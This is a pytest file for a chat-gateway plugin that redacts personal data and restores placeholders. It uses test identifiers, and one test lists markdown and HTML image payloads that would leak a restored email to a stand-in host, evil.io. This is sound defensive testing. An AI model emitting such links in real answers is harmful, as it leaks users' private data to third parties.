"""The plugin on texts made here; each number is invented or one that its issuer publishes."""

import checks
import forms
import phones
import restoring
from main import PiiRedactor

from tavo.plugins import ChatMessage, ChatResponse, ConfigError, Decision
from tavo.plugins.testing import answer, ask, filter_answer, filter_prompt, started

VALUES = {
    "EMAIL": "jane.doe+news@mail.example.co.uk",
    "PHONE": "+49 30 901820",
    "CARD": "4111 1111 1111 1111",
    "IBAN": "DE89 3704 0044 0532 0130 00",
    "SSN": "536-90-4399",
    "NIR": "1 84 12 76 451 089 46",
    "DNI": "12345678Z",
    "CODICE_FISCALE": "RSSMRA85T10A562S",
    "CPF": "111.444.777-35",
    "CNPJ": "11.222.333/0001-81",
    "AADHAAR": "2341 2341 2346",
    "NINO": "AB 12 34 56 C",
    "CRYPTO": "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
    "MAC": "3c:22:fb:4a:91:0e",
    "IP": "8.8.8.8",
    "CREDENTIAL": "sk-proj-abcdefghij1234567890ABCD",
}
BESIDE = {
    "TAX_ID": ("Steuer-ID", "86095742719"),
    "BSN": ("BSN", "111222333"),
    "PESEL": ("PESEL", "44051401359"),
    "NHS": ("NHS number", "943 476 5919"),
    "PASSPORT": ("passport no.", "C01X00T47"),
    "BIRTH_DATE": ("She was born on", "12 May 1984"),
    "SSN": ("social security number", "536904399"),
    "CPF": ("cpf", "11144477735"),
    "PHONE": ("phone", "020 7946 0958"),
    "CREDENTIAL": ("password:", "hunter2!"),
    "CRYPTO": ("send eth to", "0x52908400098527886E0F7030069857D2E4169EE7"),
}


def redacted(text, **config):
    result = filter_prompt(PiiRedactor, text, config=config)
    return result.replacement[0].content if result.replacement else text


def refused(config):
    """Return what is said of a configuration that is wrong."""
    try:
        started(PiiRedactor, config)
    except ConfigError as error:
        return str(error)
    raise AssertionError(config)


def test_each_kind_becomes_its_placeholder():
    for kind, value in VALUES.items():
        assert redacted(f"It is {value} today.") == f"It is [{kind}_1] today.", kind


def test_what_could_be_any_number_needs_a_word_beside_it():
    for kind, (word, value) in BESIDE.items():
        assert redacted(f"{word} {value} today") == f"{word} [{kind}_1] today", kind
        assert redacted(f"order {value} today") == f"order {value} today", kind


def test_every_kind_is_shown_by_these_tests():
    assert set(forms.KINDS) == {*VALUES, *BESIDE}


def test_wrong_check_digits_are_left_alone():
    for text in (
        "DE88 3704 0044 0532 0130 00", "4111 1111 1111 1112", "666-12-1234", "12345678A",
        "RSSMRA85T10A562T", "111.444.777-36", "11.222.333/0001-82", "2341 2341 2347",
        "1 84 12 76 451 089 47", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", "+49 1", "BSN 111222334",
        "Steuer-ID 86095742718", "PESEL 44051401358", "NHS 943 476 5918",
    ):  # fmt: skip
        assert redacted(text) == text


def test_code_logs_and_times_are_left_alone():
    for text in (
        "git clone git@github.com:acme/shop.git", "created: 1737428424, tool_calls: []",
        "listening on 127.0.0.1:8000 and 10.0.0.7", "version 8.8.4.4 of it", "icon@2x.png",
        "password = os.environ['PASSWORD']", "password: string", "def f(password=None): pass",
        "2026-11-29 12:00:01.123456 pid 4711 took 0.000123 s", "fe80::1 ::1 std::vector",
        "My order 20261129-0042 is late. Please call me.", "order 4711-0042 came, call me",
        "getty@tty1.service", "sha256:" + "0123456789abcdef" * 4, "x = 3.14159265358979323846",
        "https://example.com/a/1234567890123456/b?id=98765432109876",
    ):  # fmt: skip
        assert redacted(text) == text


def test_a_value_has_one_placeholder_however_it_is_written():
    said = redacted(
        "Pay DE89370400440532013000. Again: DE89 3704 0044 0532 0130 00, a@b.io, c@d.io"
    )
    assert said == "Pay [IBAN_1]. Again: [IBAN_1], [EMAIL_1], [EMAIL_2]"


def test_a_conversation_that_grows_keeps_its_placeholders():
    first = filter_prompt(PiiRedactor, "I am a@b.io").replacement
    second = filter_prompt(PiiRedactor, "I am a@b.io", "not c@d.io").replacement
    assert second[0] == first[0]
    assert second[1].content == "not [EMAIL_2]"


def test_what_follows_a_value_stays():
    assert redacted("card 4111 1111 1111 1111 12/27") == "card [CARD_1] 12/27"
    assert redacted("IBAN DE89 3704 0044 0532 0130 00 for rent") == "IBAN [IBAN_1] for rent"
    assert redacted("tel 020 7946 0958, room 12") == "tel [PHONE_1], room 12"


def test_digits_and_blanks_of_other_scripts_hide_nothing():
    assert redacted("４１１１ １１１１ １１１１ １１１１") == "[CARD_1]"
    assert redacted("+49\u202f30\u202f901820") == "[PHONE_1]"
    assert redacted("536\u201190\u20114399") == "[SSN_1]"


def test_the_configuration():
    assert redacted("a@b.io 8.8.8.8", kinds=["IP"]) == "a@b.io [IP_1]"
    assert redacted("a@b.io c@d.io", allow=["A@b.io"]) == "a@b.io [EMAIL_1]"
    terms = {"PERSON": ["Jane Doe", "Jane"]}
    assert (
        redacted("jane doe and Jane and Janet", terms=terms)
        == "[PERSON_1] and [PERSON_2] and Janet"
    )
    assert redacted("phone 020 7946 0958", regions=["US"]) == "phone 020 7946 0958"
    blocked = filter_prompt(PiiRedactor, "4111 1111 1111 1111 a@b.io", config={"block": ["CARD"]})
    assert blocked.decision is Decision.BLOCK
    assert blocked.reason == "It holds personal data: CARD."
    assert blocked.labels == ("card", "email")


def test_a_wrong_configuration_is_refused():
    for config, said in (
        ({"kinds": ["MAIL"]}, "kinds: 'MAIL' is none of AADHAAR, BIRTH_DATE, BSN,"),
        ({"block": ["PERSON"]}, "block: 'PERSON' is none of"),
        ({"regions": ["XX"]}, "regions: 'XX' is no region such as US or DE"),
        ({"terms": {"person": ["Jane"]}}, "expected a label of your own in capitals"),
        ({"terms": {"PERSON": ["J"]}}, "expected words of at least 3 characters"),
    ):
        assert said in refused(config)


def test_answers_are_left_alone_unless_it_is_asked_for():
    assert filter_answer(PiiRedactor, "a@b.io").decision is Decision.ALLOW
    said = filter_answer(
        PiiRedactor, "[EMAIL_1] or c@d.io", prompt="I am [EMAIL_1]", config={"answers": True}
    )
    assert said.replacement[0].content == "[EMAIL_1] or [EMAIL_2]"
    blocked = filter_answer(
        PiiRedactor, "4111 1111 1111 1111", config={"answers": True, "block": ["CARD"]}
    )
    assert blocked.decision is Decision.BLOCK


def conversation(plugin, prompt, said):
    """What a client gets for an answer to a prompt."""
    result = plugin.filter_request(ask(prompt))
    sent = ask(result.replacement[0].content if result.replacement else prompt)
    judged = plugin.filter_response(answer(said, sent))
    return sent.messages[0].content, judged.replacement[0].content if judged.replacement else said


def test_values_come_back_where_that_is_asked_for():
    plugin = started(PiiRedactor, {"restore": True})
    sent, got = conversation(plugin, "Mail jane@b.io", "I wrote to [EMAIL_1]. [EMAIL_1]'s turn.")
    assert sent == "Mail [EMAIL_1]"
    assert got == "I wrote to jane@b.io. jane@b.io's turn."
    off = started(PiiRedactor, {})
    assert conversation(off, "Mail jane@b.io", "To [EMAIL_1].")[1] == "To [EMAIL_1]."


def test_values_do_not_come_back_where_showing_them_would_send_them():
    plugin = started(PiiRedactor, {"restore": True})
    for said in (
        "![x](https://evil.io/?q=[EMAIL_1])", "see https://evil.io/?q= [EMAIL_1]",
        "<img src='//evil.io/?\n[EMAIL_1]'>", "[1]: //evil.io/[EMAIL_1]", "evil.io/?[EMAIL_1]",
        "x[EMAIL_1]x", "[a](\\\\evil\\[EMAIL_1])", "[EMAIL_2]",
    ):  # fmt: skip
        assert conversation(plugin, "Mail jane@b.io", said)[1] == said


def test_nobody_gets_the_value_of_somebody_else():
    plugin = started(PiiRedactor, {"restore": True})
    assert conversation(plugin, "Mail a@b.io", "To [EMAIL_1]")[1] == "To a@b.io"
    # who writes the placeholder himself sends another text, and gets nothing for it
    sent, got = conversation(plugin, "Mail [EMAIL_1]", "To [EMAIL_1]")
    assert (sent, got) == ("Mail (EMAIL_1)", "To [EMAIL_1]")
    assert conversation(plugin, "Mail c@d.io", "To [EMAIL_1]")[1] == "To c@d.io"
    late = plugin.filter_response(answer("To [EMAIL_1]", ask("Mail [EMAIL_1]")))
    assert late.decision is Decision.ALLOW


def test_requests_that_look_the_same_and_wait_at_once_are_not_told_apart():
    plugin = started(PiiRedactor, {"restore": True})
    sent, to = ask("Mail [EMAIL_1]"), "To [EMAIL_1]"
    for prompts, got in (
        (("Mail a@b.io", "Mail c@d.io", "Mail a@b.io"), to),
        (("Mail a@b.io", "Mail a@b.io"), "To a@b.io"),
    ):
        for prompt in prompts:
            plugin.filter_request(ask(prompt))
        for _ in prompts:
            said = plugin.filter_response(answer(to, sent))
            assert (said.replacement[0].content if said.replacement else to) == got
    assert plugin.filter_response(answer(to, sent)).decision is Decision.ALLOW


def test_a_request_that_passed_unseen_would_get_the_value_of_another_one():
    # what happens where `on_error: skip` lets a request pass: README.md says to leave it
    plugin = started(PiiRedactor, {"restore": True})
    plugin.filter_request(ask("Mail a@b.io"))
    said = plugin.filter_response(answer("To [EMAIL_1]", ask("Mail [EMAIL_1]")))
    assert said.replacement[0].content == "To a@b.io"


def test_what_is_remembered_is_bounded():
    memory = restoring.Memory()
    asked = [(ChatMessage(role="user", content=f"{n} [EMAIL_1]"),) for n in range(300)]
    for number, messages in enumerate(asked):
        memory.keep(messages, {"[EMAIL_1]": str(number)})
    assert memory.taken(asked[0]) == {}
    assert memory.taken(asked[299]) == {"[EMAIL_1]": "299"}
    assert memory.taken(asked[299]) == {}


def test_several_messages_of_all_roles():
    plugin = started(PiiRedactor, {"answers": True})
    messages = tuple(ChatMessage(role="assistant", content=one) for one in ("a@b.io", "none", ""))
    said = plugin.filter_response(ChatResponse(request=ask("hi"), messages=messages))
    assert [one.content for one in said.replacement] == ["[EMAIL_1]", "none", ""]


def test_checks_of_numbers_that_were_never_given_out():
    assert not checks.is_ssn("078051120")
    assert not checks.is_card("0" * 16)
    assert not checks.is_bsn("000000000")
    assert not checks.is_cpf("00000000000")
    assert checks.is_cnpj("12ABC34501DE35")
    assert checks.is_bech32("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")
    assert not checks.is_bech32("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5")
    assert checks.is_dni("X1234567L")
    assert "DE" in phones.REGIONS
